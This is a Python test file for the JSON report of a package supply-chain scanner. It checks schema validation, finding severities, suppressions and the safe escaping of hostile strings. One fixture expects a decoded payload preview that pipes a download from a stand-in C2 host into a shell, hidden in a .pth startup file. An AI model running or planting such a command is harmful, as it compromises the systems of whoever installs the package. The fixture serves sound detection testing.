"""The JSON report validates against its published schema and carries everything the scan saw."""

from __future__ import annotations

import copy
import datetime as dt
import json

import jsonschema
import pytest
from report_builders import HOSTILE, SCRIPT_FILE, empty, finding, hostile, sample, verdict_for, wheel_result

from chainwarden.models import ScanReport, Severity, Trigger
from chainwarden.policy import Ignore
from chainwarden.report import json as json_report
from chainwarden.report import render


def validator() -> jsonschema.Draft202012Validator:
    schema = json_report.schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)


def rendered(report: ScanReport, **kwargs) -> dict:
    return json.loads(render(report, verdict_for(report, **kwargs), "json"))


def test_schema_is_packaged_and_identifies_itself():
    schema = json_report.schema()
    assert schema["$id"] == json_report.SCHEMA_ID
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["properties"]["schema_version"]["const"] == json_report.SCHEMA_VERSION


@pytest.mark.parametrize("build", [sample, empty, hostile], ids=["sample", "empty", "hostile"])
def test_output_validates(build):
    doc = rendered(build())
    validator().validate(doc)
    assert doc["$schema"] == json_report.SCHEMA_ID


def test_schema_rejects_what_it_should():
    doc = rendered(sample())
    broken = [copy.deepcopy(doc) for _ in range(4)]
    broken[0]["results"][0]["findings"][0]["severity"] = "severe"
    broken[1]["results"][0]["findings"][0]["trigger"] = "whenever"
    broken[2]["results"][0]["surprise"] = 1
    del broken[3]["results"][0]["unscanned"]
    for doc in broken:
        assert not validator().is_valid(doc)


def test_every_severity_and_trigger_validates():
    findings = tuple(
        finding(severity=sev, trigger=trig, line=n + 1, path=f"m{n}.py")
        for n, (sev, trig) in enumerate((s, t) for s in Severity for t in Trigger)
    )
    report = ScanReport("0.1.0", "2026-11-26T06:00:00+00:00", (wheel_result(findings),))
    doc = rendered(report)
    validator().validate(doc)
    seen = {(f["severity"], f["trigger"]) for f in doc["results"][0]["findings"]}
    assert seen == {(s.label, t.value) for s in Severity for t in Trigger}


def test_findings_carry_labels_evidence_and_status():
    report = sample()
    ignore = Ignore("CW101", "reviewed in SEC-1", dt.date(2027, 1, 31))
    doc = rendered(report, ignores=(ignore,))
    evil = doc["results"][0]
    critical, suppressed, low = evil["findings"]
    assert critical["severity"] == "critical"
    assert critical["trigger"] == "interpreter-start"
    assert critical["confidence"] == "high"
    assert critical["location"] == {"artifact": "evilpkg-1.0-py3-none-any.whl", "path": "evilpkg_init.pth", "line": 1, "column": None}
    assert critical["evidence"]["decoded"] == [
        {"stage": 1, "method": "base64", "preview": "import os"},
        {"stage": 2, "method": "zlib", "preview": "os.system('curl http://c2.invalid/x | sh')"},
    ]
    assert critical["evidence"]["detail"] == [{"name": "python", "value": "3.8-3.14"}]
    assert critical["capabilities"] == ["exec", "network"]
    assert critical["status"] == "blocking"
    assert critical["evidence_hash"] == report.results[0].findings[0].evidence_hash
    assert suppressed["status"] == "suppressed"
    assert suppressed["suppression"] == {"reason": "reviewed in SEC-1", "expires": "2027-01-31"}
    assert suppressed["location"]["column"] == 4
    assert low["status"] == "reported"
    assert low["suppression"] is None
    assert doc["verdict"]["blocked"] is True
    assert doc["verdict"]["threshold"] == "high"
    assert doc["verdict"]["blocking"] == [critical["evidence_hash"]]
    assert doc["verdict"]["suppressed"][0]["evidence_hash"] == suppressed["evidence_hash"]


def test_unscanned_errors_stats_and_summary():
    doc = rendered(sample())
    assert doc["results"][2]["unscanned"] == [
        {"artifact": "project", "path": "data/huge.bin", "reason": "larger than the 1 GiB member limit"}
    ]
    assert doc["errors"] == ["nosuchpkg==9.9: not found on the index"]
    assert doc["results"][0]["stats"] == {"files": 4, "bytes": 1234, "analyzed_files": 3, "cache_hits": 1, "seconds": 0.01}
    assert doc["results"][0]["metadata"]["record_entries"] == 1
    assert doc["results"][2]["metadata"] is None
    assert doc["summary"] == {
        "artifacts": 3,
        "findings": 4,
        "by_severity": {"critical": 1, "high": 1, "medium": 0, "low": 1, "info": 1},
        "blocking": 2,
        "suppressed": 0,
        "unscanned": 1,
        "errors": 1,
    }
    assert [r["id"] for r in doc["rules"]] == ["CW013", "CW101", "CW102", "CW300"]


def test_empty_report():
    doc = rendered(empty())
    assert doc["results"] == []
    assert doc["verdict"]["blocked"] is False
    assert doc["summary"]["artifacts"] == 0


def test_hostile_strings_survive_as_data_and_never_as_raw_bytes():
    text = render(hostile(), verdict_for(hostile()), "json")
    assert text.isascii()
    assert all(ch == "\n" or ch >= " " for ch in text)
    doc = json.loads(text)
    finding = doc["results"][0]["findings"][0]
    expected = HOSTILE.replace("\udcff", "\\xff")  # undecodable bytes are spelled out, never lone surrogates
    assert finding["message"] == f"message {expected}"
    assert finding["location"]["path"] == f"{expected}/{SCRIPT_FILE}"
    assert finding["evidence"]["decoded"][0]["preview"] == f"preview {expected}"
    assert doc["results"][0]["unscanned"][0]["reason"] == f"reason {expected}"
    assert doc["errors"] == [f"error {expected}"]
